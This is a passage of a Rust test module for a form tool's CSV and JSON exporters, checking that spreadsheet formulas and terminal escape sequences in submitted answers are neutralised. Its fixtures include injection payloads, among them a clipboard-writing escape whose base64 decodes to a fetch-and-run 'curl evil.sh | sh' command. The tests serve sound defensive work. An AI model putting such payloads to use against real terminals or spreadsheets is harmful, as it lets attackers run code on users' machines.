             r1,letter,en,2026-11-28,Mai,\"a, b\",\"say \"\"hi\"\"\",\"one\ntwo\",,individual,\"x; y, z; w\",,yes,no\r\n"
        );
    }

    #[test]
    fn an_empty_export_still_has_its_header_and_shape() {
        assert_eq!(csv_text(&[]), "record,campaign,language,received\r\n");
        assert_eq!(json(&[]).unwrap().expose(), b"[]\n");
        assert_eq!(jsonl(&[]).unwrap().expose(), b"");
    }

    #[test]
    fn formula_starts_are_guarded_and_nothing_else() {
        let guarded = [
            "=1+2",
            "+1",
            "-1",
            "@x",
            "|cmd",
            "\tx",
            "\rx",
            "=",
            "-",
            // Full-width forms.
            "\u{ff1d}1+2",
            "\u{ff0b}1",
            "\u{ff0d}1",
            "\u{ff20}SUM(A1)",
            // After spaces and line breaks, which spreadsheets skip.
            " =1+2",
            "   +1",
            "\n=HYPERLINK(\"http://x\")",
            "\r\n@SUM(A1:A9)",
            " \t -1",
            "\u{a0}=1",
            "\u{3000}\u{ff1d}1",
            "\n|cmd",
            // A tab or carriage return is guarded whatever follows.
            "\t",
            "\r",
            "\rx",
        ];
        for cell in guarded {
            assert!(starts_like_formula(cell), "{cell:?}");
            assert_eq!(*guard_formula(cell), format!("'{cell}"), "{cell:?}");
        }
        let left_alone = [
            "",
            "1+2",
            "a=b",
            "'=1",
            "Mai",
            " ",
            "\n",
            "\nMai",
            "  text = more",
            "x|y",
            "1\u{ff1d}1",
            "\u{200b}=1",
        ];
        for cell in left_alone {
            assert!(!starts_like_formula(cell), "{cell:?}");
            assert_eq!(*guard_formula(cell), cell, "{cell:?}");
        }
    }

    /// Answers that attack a terminal, and how a CSV export written to one shows them.
    #[test]
    fn csv_on_a_terminal_escapes_every_cell_and_keeps_line_feeds() {
        let cases = [
            (
                "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
                "\\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u{7}",
            ),
            (
                "\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\",
                "\\u{1b}]8;;https://evil.example/\\u{1b}\\docs\\u{1b}]8;;\\u{1b}\\",
            ),
            ("\x1b[2J", "\\u{1b}[2J"),
            ("I agree\x1b[8m not", "I agree\\u{1b}[8m not"),
            ("evil\rgood", "evil\\u{d}good"),
            ("\u{9b}2J", "\\u{9b}2J"),
            ("\u{202e}gnp.exe", "\\u{202e}gnp.exe"),
            ("\u{2067}abc\u{2069}", "\\u{2067}abc\\u{2069}"),
            ("one\ntwo", "\"one\ntwo\""),
            // Guarded as typed, then escaped.
            ("\t=1", "'\\u{9}=1"),
            ("Mai", "Mai"),
        ];
        for (answer, shown) in cases {
            let records = [opened("r\x1b[2J", vec![("f\u{9b}", text(answer))])];
            assert_eq!(
                csv_text_for(&records, Output::Terminal),
                format!(
                    "record,campaign,language,received,f\\u{{9b}}\r\n\
                     r\\u{{1b}}[2J,letter,en,2026-11-28,{shown}\r\n"
                ),
                "{answer:?}"
            );
            // To a file or a pipe, the exact answer (quoted if need be).
            let exact = csv_text(&records);
            let mut reader = ::csv::Reader::from_reader(exact.as_bytes());
            assert_eq!(&reader.headers().unwrap()[4], "f\u{9b}");
            let row = reader.records().next().unwrap().unwrap();
            assert_eq!(&row[0], "r\x1b[2J");
            assert_eq!(row[4], *guard_formula(answer), "{answer:?}");
        }
    }

    #[test]
    fn json_escapes_every_unsafe_character_and_reads_back_exactly() {
        let hostile = "\x1b]52;c;eA==\x07 \x1b[2J\r\u{7f}\u{9b}\u{202e}\u{2066}\u{200b}\u{feff}\u{e0041} ok \u{200d} \u{5bc6}";
        let records = [opened(
            "r1",
            vec![
                ("t\u{202e}", text(hostile)),
                ("c", FieldValue::Choices(vec![hostile.to_owned()])),
            ],
        )];
        // The joiner and the ideograph are text, and stay as they are.
        let escaped = "\\u001b]52;c;eA==\\u0007 \\u001b[2J\\r\\u007f\\u009b\\u202e\\u2066\\u200b\\ufeff\\udb40\\udc41 ok \u{200d} \u{5bc6}";
        let version = "0".repeat(64);
        let line = format!(
            r#"{{"record":"r1","campaign":"letter","campaign_version":"{version}","language":"en","received":"2026-11-28","fields":{{"t\u202e":"{escaped}","c":["{escaped}"]}}}}"#
        );
        let jsonl = jsonl(&records).unwrap();
        let jsonl = std::str::from_utf8(jsonl.expose()).unwrap();
        assert_eq!(jsonl, format!("{line}\n"));
        let json = json(&records).unwrap();
        let json = std::str::from_utf8(json.expose()).unwrap();
        assert_eq!(json, format!("[\n  {line}\n]\n"));
        assert!(!json.chars().any(|c| escape::is_unsafe(c) && c != '\n'));

        let parsed: serde_json::Value = serde_json::from_str(jsonl).unwrap();
        assert_eq!(parsed["fields"]["t\u{202e}"], hostile);
        assert_eq!(parsed["fields"]["c"][0], hostile);
    }

    #[test]
    fn json_keeps_field_order_and_types_and_the_first_of_a_repeated_name() {
        let records = [opened(
            "r1",
            vec![
                ("z_last_alphabetically", text("first")),
                (
                    "choices",
                    FieldValue::Choices(vec!["a".into(), "\"b\"".into()]),
                ),
                ("consent", FieldValue::Consent(true)),
                ("z_last_alphabetically", text("repeated")),
                ("choice", FieldValue::Choice("=x".into())),
            ],
        )];
        let version = "0".repeat(64);
        let line = format!(
            r#"{{"record":"r1","campaign":"letter","campaign_version":"{version}","language":"en","received":"2026-11-28","fields":{{"z_last_alphabetically":"first","choices":["a","\"b\""],"consent":true,"choice":"=x"}}}}"#
        );
        assert_eq!(
            std::str::from_utf8(jsonl(&records).unwrap().expose()).unwrap(),
            format!("{line}\n")
        );
        assert_eq!(
            std::str::from_utf8(json(&records).unwrap().expose()).unwrap(),
            format!("[\n  {line}\n]\n")
        );
    }

    const WORDED_CAMPAIGN: &str = r#"
id = "letter"
title = "Letter"
language = "en"
testimony = "story"
letter = "Dear all."

[[fields]]
name = "sign_as"
kind = "single_choice"
label = "Sign as"
asked = "signers"
options = [{ value = "individual", label = "Individual" }, { value = "organization", label = "Organization" }]

[[fields]]
name = "actions"
kind = "multi_choice"
label = "Actions"
asked = "signers"
options = [{ value = "share", label = "Share the letter" }, { value = "meet", label = "Meet" }]

[[fields]]
name = "note"
kind = "short_text"
label = "Comment"

[[fields]]
name = "story"
kind = "long_text"
label = "Comment"

[[fields]]
name = "public"
kind = "consent"
label = "@List me"
"#;

    /// A record with a campaign, and one without.
    fn worded_records() -> [Opened; 2] {
        [
            opened(
                "r1",
                vec![
                    ("intent", FieldValue::Choice("sign_and_share".into())),
                    ("sign_as", FieldValue::Choice("organization".into())),
                    (
                        "actions",
                        FieldValue::Choices(vec!["share".into(), "meet".into()]),
                    ),
                    ("note", text("hi")),
                    ("story", text("x")),
                    ("public", FieldValue::Consent(true)),
                ],
            ),
            opened(
                "r2",
                vec![
                    ("intent", FieldValue::Choice("share".into())),
                    ("sign_as", FieldValue::Choice(String::new())),
                    ("actions", FieldValue::Choices(Vec::new())),
                    ("note", text("")),
                    ("story", text("y")),
                    ("public", FieldValue::Consent(false)),
                ],
            ),
        ]
    }

    #[test]
    fn a_worded_csv_has_questions_for_headings_and_labels_for_answers() {
        let campaign = sealform_campaign::Campaign::from_toml("c.toml", WORDED_CAMPAIGN).unwrap();
        let records = worded_records();
        let words = [Some(FormWords::new(&campaign, None)), None];
        let out = export_worded(Format::Csv, &records, &words, Output::FileOrPipe).unwrap();
        assert_eq!(
            std::str::from_utf8(out.expose()).unwrap(),
            "\u{feff}record,campaign,language,received,intent,Sign as,Actions,Comment (note),Comment (story),'@List me\r\n\
             r1,letter,en,2026-11-28,Sign and share,Organization,Share the letter; Meet,hi,x,yes\r\n\
             r2,letter,en,2026-11-28,share,,,,y,no\r\n"
        );
        // Without words, exactly the codes export.
        let plain = export_worded(Format::Csv, &records, &[], Output::FileOrPipe).unwrap();
        assert_eq!(plain.expose(), csv(&records, Output::FileOrPipe).expose());
    }

    #[test]
    fn worded_json_keeps_the_codes_and_adds_labels() {
        let campaign = sealform_campaign::Campaign::from_toml("c.toml", WORDED_CAMPAIGN).unwrap();
        let records = worded_records();
        let words = [Some(FormWords::new(&campaign, None)), None];
        let out = export_worded(Format::Jsonl, &records, &words, Output::FileOrPipe).unwrap();
        let version = "0".repeat(64);
        assert_eq!(
            std::str::from_utf8(out.expose()).unwrap(),
            format!(
                r#"{{"record":"r1","campaign":"letter","campaign_version":"{version}","language":"en","received":"2026-11-28","fields":{{"intent":"sign_and_share","sign_as":"organization","actions":["share","meet"],"note":"hi","story":"x","public":true}},"labels":{{"sign_as":"Sign as","actions":"Actions","note":"Comment","story":"Comment","public":"@List me"}},"option_labels":{{"intent":{{"sign_and_share":"Sign and share"}},"sign_as":{{"organization":"Organization"}},"actions":{{"share":"Share the letter","meet":"Meet"}}}}}}
{{"record":"r2","campaign":"letter","campaign_version":"{version}","language":"en","received":"2026-11-28","fields":{{"intent":"share","sign_as":"","actions":[],"note":"","story":"y","public":false}}}}
"#
            )
        );
    }

    #[test]
    fn the_secret_buffer_grows_without_losing_bytes_and_prints_redacted() {
        let mut buf = SecretBuf::new();
        let chunk: Vec<u8> = (0..=255).collect();
        for _ in 0..300 {
            buf.write_all(&chunk).unwrap();
        }
        assert_eq!(buf.expose().len(), 300 * 256);
        assert!(buf.expose().chunks(256).all(|c| c == chunk.as_slice()));
        assert_eq!(format!("{buf:?}"), "SecretBuf(..redacted.., 76800 bytes)");
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(256))]
        #[test]
        fn any_text_survives_a_csv_round_trip(
            values in prop::collection::vec(
                prop_oneof![
                    any::<String>(),
                    "[=+@|\u{ff1d}\u{ff0b}\u{ff0d}\u{ff20} \u{3000}\t\r\n\",; '-]{0,6}",
                    "\\PC{0,20}",
                ],
                1..6,
            ),
            record in "[0-9a-f]{1,32}",
        ) {
            let fields = values
                .iter()
                .enumerate()
                .map(|(index, value)| (format!("f{index}"), text(value)))
                .collect();
            let records = [opened(&record, fields)];
            let out = csv(&records, Output::FileOrPipe);
            let mut reader = ::csv::ReaderBuilder::new().from_reader(out.expose());
            let rows: Vec<::csv::StringRecord> =
                reader.records().collect::<Result<_, _>>().unwrap();
            prop_assert_eq!(rows.len(), 1);
            prop_assert_eq!(&rows[0][0], record.as_str());
            for (index, value) in values.iter().enumerate() {
                let expected = if starts_like_formula(value) {
                    format!("'{value}")
                } else {
                    value.clone()
                };
                prop_assert_eq!(&rows[0][index + 4], expected.as_str());
            }
        }
    }
}
